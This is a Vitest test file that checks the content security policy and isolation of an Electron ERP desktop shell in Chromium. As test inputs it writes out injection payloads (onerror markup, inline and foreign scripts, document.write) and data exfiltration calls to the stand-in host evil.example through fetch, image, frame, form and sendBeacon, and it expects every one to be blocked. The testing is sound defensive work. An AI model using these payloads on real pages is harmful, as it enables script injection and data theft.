import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { findBrowser } from '../../../build/find-browser.mjs';
import { type ChromiumDesktop, DIST, openChromiumDesktop } from './chromium-desktop.ts';

vi.mock('electron', () => import('#tests/fakes/electron.ts'));

const canRun = existsSync(join(DIST, 'renderer/index.html')) && (await findBrowser()) !== undefined;
const SERVER = 'https://erp.example.com';

describe.skipIf(!canRun)(
  'the built page behind the real shell, in Chromium (needs a build and a browser)',
  () => {
    let desktop: ChromiumDesktop;
    beforeAll(async () => {
      desktop = await openChromiumDesktop(SERVER);
      await desktop.page.waitForFunction(() => (document.getElementById('root')?.childElementCount ?? 0) > 0);
    });
    afterAll(() => desktop.close());

    it('starts and draws itself without breaking its own policy', () => {
      expect(desktop.pageErrors).toEqual([]);
      expect(desktop.violations).toEqual([]);
    });

    it('asks nobody but its own origin and the configured server', () => {
      expect(desktop.foreignRequests.filter((url) => !url.startsWith(`${SERVER}/`))).toEqual([]);
    });

    it('learns from its shell which server it speaks to', async () => {
      const info = await desktop.page.evaluate(() =>
        (window as unknown as { shell: { info(): unknown } }).shell.info(),
      );
      expect(info).toMatchObject({ edition: 'desktop', serverUrl: SERVER });
    });

    it('cannot reach Node', async () => {
      const found = await desktop.page.evaluate(() =>
        ['require', 'process', 'module', 'Buffer', 'electron'].filter((name) => name in window),
      );
      expect(found).toEqual([]);
    });

    it.each([
      // On a timer: what a test runner evaluates itself may use eval under any policy.
      [
        'eval',
        () =>
          new Promise((done, failed) => {
            setTimeout(() => {
              try {
                done(Reflect.get(window, 'eval')('1'));
              } catch (error) {
                failed(error);
              }
            });
          }),
      ],
      [
        'a function from text',
        () =>
          new Promise((done, failed) => {
            setTimeout(() => {
              try {
                done(new Function('return 1')());
              } catch (error) {
                failed(error);
              }
            });
          }),
      ],
      [
        'markup with a handler',
        () => {
          document.body.innerHTML += '<img src=x onerror="window.hacked=true">';
        },
      ],
      [
        'a foreign script',
        () => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          document.head.append(script);
        },
      ],
      [
        'an inline script',
        () => {
          const script = document.createElement('script');
          script.text = 'window.hacked = true';
          document.head.append(script);
        },
      ],
      ['a worker from a data address', () => new Worker('data:text/javascript,1')],
      ['written markup', () => document.write('<script>window.hacked=true</script>')],
    ])('refuses %s', async (_name, attack) => {
      const error = await desktop.page.evaluate(attack as () => unknown).then(
        () => 'ran',
        (reason: unknown) => String(reason),
      );
      expect(error).toMatch(/EvalError|TypeError|TrustedHTML|TrustedScript|Content Security Policy/);
      expect(await desktop.page.evaluate(() => 'hacked' in window)).toBe(false);
    });

    it('cannot send data to a foreign server, neither by request nor by picture, frame or form', async () => {
      const before = desktop.foreignRequests.length;
      await desktop.page.evaluate(async () => {
        await fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => undefined);
        const image = document.createElement('img');
        image.src = 'https://evil.example/x.png';
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/';
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(image, frame, form);
        form.submit();
        navigator.sendBeacon('https://evil.example/', 'x');
      });
      const evil = desktop.foreignRequests.slice(before).filter((url) => url.includes('evil.example'));
      expect(evil).toEqual([]);
      await vi.waitFor(() =>
        expect(desktop.violations).toEqual(
          expect.arrayContaining(['connect-src', 'img-src', 'frame-src', 'form-action']),
        ),
      );
    });

    it('gives a frame inside the page no answer, though it has the same methods', async () => {
      const answer = await desktop.page.evaluate(async () => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        const inner = frame.contentWindow as unknown as {
          askMain?: (channel: string, question: null) => Promise<unknown>;
        };
        if (inner.askMain === undefined) return 'nothing to ask with';
        return await inner.askMain('shell:info', null).then(
          () => 'answered',
          (error: unknown) => String(error),
        );
      });
      expect(answer).toMatch(/was refused|nothing to ask with/);
    });
  },
);
